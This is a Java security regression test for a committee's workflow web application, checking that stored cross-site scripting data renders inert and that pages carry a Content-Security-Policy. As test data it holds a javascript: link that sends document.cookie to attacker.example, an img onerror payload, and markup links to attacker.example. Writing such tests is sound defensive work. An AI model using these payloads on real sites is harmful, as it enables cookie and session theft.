package org.un.sc1540.workflow.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.runtime.Job;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.un.sc1540.workflow.CommitteeTest;
import org.un.sc1540.workflow.matrix.MatrixCirculation;
import org.un.sc1540.workflow.matrix.StateMatrixReview;
import org.un.sc1540.workflow.registry.RegistryService;
import org.un.sc1540.workflow.reporting.FirstReportReminderProcess;

/**
 * Issue 11, finding 5: a {@code javascript:} matrix link rendered as a live link on
 * {@code /committee/matrix/{year}}, the Committee's pages had no Content-Security-Policy, and HTML in
 * a contact's name became a live link inside a Tasklist form. The hostile data is put where it
 * would be stored; what the pages and the form then show is checked.
 */
@CommitteeTest
class StoredScriptTest {

  /** A character that starts a tag, a link or an image in Markdown, not escaped with a backslash. */
  private static final Pattern UNESCAPED_MARKUP = Pattern.compile("(?<!\\\\)[<>\\[\\]()!]");

  private static final String HOSTILE_LINK = "javascript:fetch('https://attacker.example/?'+document.cookie)";
  private static final Pattern INLINE_CODE = Pattern.compile("<script|\\sstyle=\"|\\son[a-z]+=\"", Pattern.CASE_INSENSITIVE);

  private final TestRestTemplate http;
  private final RuntimeService runtimeService;
  private final TaskService taskService;
  private final ManagementService managementService;
  private final RegistryService registry;
  private final JdbcClient jdbc;

  StoredScriptTest(TestRestTemplate http, RuntimeService runtimeService, TaskService taskService,
      ManagementService managementService, RegistryService registry, JdbcClient jdbc) {
    this.http = http;
    this.runtimeService = runtimeService;
    this.taskService = taskService;
    this.managementService = managementService;
    this.registry = registry;
    this.jdbc = jdbc;
  }

  /** However it got into the table (an old row, a path around the form's check), it is not a link. */
  @Test
  void aJavascriptMatrixLinkIsNotRenderedAsALink() {
    int year = 2088;
    ProcessInstance round = runtimeService.startProcessInstanceByKey(MatrixCirculation.PROCESS_KEY,
        MatrixCirculation.businessKey(year),
        Map.of(MatrixCirculation.REVIEW_YEAR, year, MatrixCirculation.STATE_CODES, "[\"ISL\"]"));
    ProcessInstance review = null;
    for (int step = 0; step < 10 && review == null; step++) {
      review = runtimeService.createProcessInstanceQuery()
          .processInstanceBusinessKey(StateMatrixReview.businessKey(year, "ISL")).singleResult();
      if (review == null) {
        managementService.createJobQuery().processInstanceId(round.getId()).executable().list()
            .forEach(job -> managementService.executeJob(job.getId()));
      }
    }
    assertThat(review).as("ISL's review in the %s round", year).isNotNull();
    taskService.complete(taskService.createTaskQuery().processInstanceId(review.getId()).singleResult().getId(), Map.of(
        StateMatrixReview.MATRIX_VERSION, "1",
        StateMatrixReview.MATRIX_URL, "https://documents.example.org/1540/matrices/ISL.pdf",
        StateMatrixReview.CHANGES_SUMMARY, "No changes"));
    Job send = managementService.createJobQuery().processInstanceId(review.getId())
        .activityId(StateMatrixReview.TASK_SEND_MATRIX).singleResult();
    managementService.executeJob(send.getId());
    assertThat(jdbc.sql("UPDATE matrix_state_review SET matrix_url = ? WHERE process_instance_id = ?")
        .params(HOSTILE_LINK, review.getId()).update()).isEqualTo(1);
    BrowserSession staff = BrowserSession.signIn(http, "staff", "demo");

    ResponseEntity<String> page = staff.get("/committee/matrix/" + year);

    assertThat(page.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(page.getBody()).contains("ISL").doesNotContain("href=\"javascript:")
        .contains("is not an http(s) link");
  }

  @Test
  void theCommitteesPagesForbidInlineScriptAndCarryNone() {
    BrowserSession staff = BrowserSession.signIn(http, "staff", "demo");

    for (String path : List.of("/committee/login", "/committee/", "/committee/correspondence", "/committee/matrix",
        "/committee/no-such-page")) {
      ResponseEntity<String> page = staff.get(path);
      String policy = page.getHeaders().getFirst("Content-Security-Policy");
      assertThat(policy).as("Content-Security-Policy of %s", path).contains("script-src 'self'")
          .contains("object-src 'none'").contains("frame-ancestors 'none'").doesNotContain("unsafe-inline");
      assertThat(page.getHeaders().getFirst("X-Content-Type-Options")).as(path).isEqualTo("nosniff");
      assertThat(INLINE_CODE.matcher(page.getBody()).find()).as("inline script or style in %s", path).isFalse();
    }
  }

  @Test
  void htmlAndMarkdownInAContactsNameAreInertInTheNoteReviewForm() {
    registry.importContacts(new StringReader("state,role,name,organization,email,valid_from\n"
        + "LSO,MISSION,\"<a href=\"\"https://attacker.example/\"\">Mission</a> [urgent](https://attacker.example/)\",,"
        + "mission.lso@example.org,\n"
        + "LSO,POC,<img src=x onerror=alert(1)>,,poc.lso@example.org,\n"));
    ProcessInstance cycle = runtimeService.startProcessInstanceByKey(FirstReportReminderProcess.KEY, "LSO",
        Map.of(FirstReportReminderProcess.STATE_CODE, "LSO"));

    // The form shows the variables of the task's scope, read from the registry when the task began.
    Task review = taskService.createTaskQuery().processInstanceId(cycle.getId()).singleResult();
    assertThat(review).as("the note review of LSO's cycle").isNotNull();
    String mission = (String) taskService.getVariable(review.getId(), FirstReportReminderProcess.MISSION_ADDRESS);
    String pocs = (String) taskService.getVariable(review.getId(), FirstReportReminderProcess.POC_ADDRESSES);

    // Markdown shows a backslash-escaped character as itself: no tag, link or image survives.
    assertThat(mission).contains("mission\\.lso\\@example\\.org").contains("\\<a href\\=").contains("\\[urgent\\]\\(");
    assertThat(UNESCAPED_MARKUP.matcher(mission).find()).as(mission).isFalse();
    assertThat(pocs).contains("\\<img src\\=x onerror\\=alert\\(1\\)\\>");
    assertThat(UNESCAPED_MARKUP.matcher(pocs).find()).as(pocs).isFalse();
  }
}
